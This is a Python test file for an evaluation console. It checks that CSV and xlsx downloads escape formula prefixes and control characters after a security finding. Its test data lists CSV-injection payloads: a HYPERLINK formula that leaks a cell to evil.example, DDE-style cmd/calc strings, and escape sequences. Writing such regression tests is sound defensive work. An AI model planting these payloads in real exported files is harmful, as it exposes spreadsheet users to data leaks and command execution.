"""#41 finding 6: 「下载这一版（CSV）」 and 「下载批量结果（CSV）」 wrote `=HYPERLINK(…)`, `@SUM(…)`, `+1+cmd…` and raw
control characters as they were; a student's message reaches both through 「加入评测集」.

Every CSV and xlsx the console or the CLI writes now goes through the one formula-safe writer (core/cells.py):
leading = + - @ (and their full-width forms), tab and carriage return get a quote, control characters show as
visible signs. The downloads of a question set re-upload unchanged (the reader takes the quote off).
"""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest

from core.cells import FORMULA_PREFIXES
from core.evaluation.batch import CSV_COLUMNS, rows_to_csv
from core.sets.format import LabelledQuestion, QuestionSet, parse_question_set
from tests.paths import ROOT

ATTACKS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
           "-2+3", "\t=1+1", "\r=1+1", "＝1+1", "学费\x1b[31m多少\x07钱", "退费\x00怎么\x9b算", "a\x0bb")
CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def cells_of(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_safe(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(FORMULA_PREFIXES), repr(cell)
        assert not CONTROLS.search(cell), repr(cell)


def test_41_06_batch_results_download_is_formula_safe():
    rows = [{"行号": n, "问题": attack, "预期": "应拒答", "结果": "误答", "是否拒答": "否", "回答": attack,
             "问题标记": "", "最高分": 0.5, "模型判定": "", "复核条目": None} for n, attack in enumerate(ATTACKS, 2)]
    cells = cells_of(rows_to_csv(rows))
    assert_safe(cells)
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")" in cells and "学费\u241b[31m多少\u2407钱" in cells
    assert cells[:len(CSV_COLUMNS)] == list(CSV_COLUMNS)


def test_41_06_question_set_download_is_formula_safe_and_re_uploads_unchanged():
    plain = ATTACKS[:4] + ("\t＝2+2",)  # a question is stripped, and ＝ reads as =: keep them distinct
    questions = QuestionSet(tuple(LabelledQuestion(question=attack, expected=None, line=n)
                                  for n, attack in enumerate(plain, start=2)))
    data = questions.to_download()
    assert data.startswith("\ufeff".encode())
    assert_safe(cells_of(data))
    again = parse_question_set(data, filename="题集.csv")
    assert [q.question for q in again.questions] == [q.strip() for q in plain]


def test_41_06_control_characters_never_reach_a_csv_or_an_xlsx(tmp_path):
    from core.cells import csv_bytes, write_table

    cells = cells_of(csv_bytes(["问题"], [[attack] for attack in ATTACKS]))
    assert_safe(cells)
    write_table(["问题"], [[attack] for attack in ATTACKS], tmp_path / "x.xlsx", sheet="表")
    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx").active
    values = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert not [v for v in values if CONTROLS.search(v)]
    assert all(row[0].data_type == "s" for row in sheet.iter_rows(min_row=2))  # text, never a formula


WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|\.to_excel\(|\.to_csv\(\s*[^)]")
# The canonical CSV of a question set is what is stored and hashed, never handed to a person (to_download is).
CANONICAL = {"core/sets/format.py"}


def test_41_06_no_module_writes_csv_or_xlsx_but_the_formula_safe_writer():
    found = []
    for folder in ("core", "ui", "app_pages"):
        for path in sorted((ROOT / folder).rglob("*.py")):
            name = str(path.relative_to(ROOT))
            if name == "core/cells.py":
                continue
            for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
                if WRITERS.search(line) and not (name in CANONICAL and "csv.DictWriter(" in line):
                    found.append(f"{name}:{n}: {line.strip()}")
    assert found == []


@pytest.mark.parametrize("label", ["下载这一版（CSV）", "下载批量结果（CSV）"])
def test_41_06_the_two_downloads_the_probe_found_call_the_safe_writer(label):
    source = "\n".join(p.read_text(encoding="utf-8") for p in (ROOT / "ui").glob("tuning_*.py"))
    call = source[source.index(f'st.download_button("{label}"'):]
    call = call[:call.index("\n", call.index("file_name"))]
    assert "to_download" in call or "rows_to_csv(" in call
    assert ".to_csv()" not in call
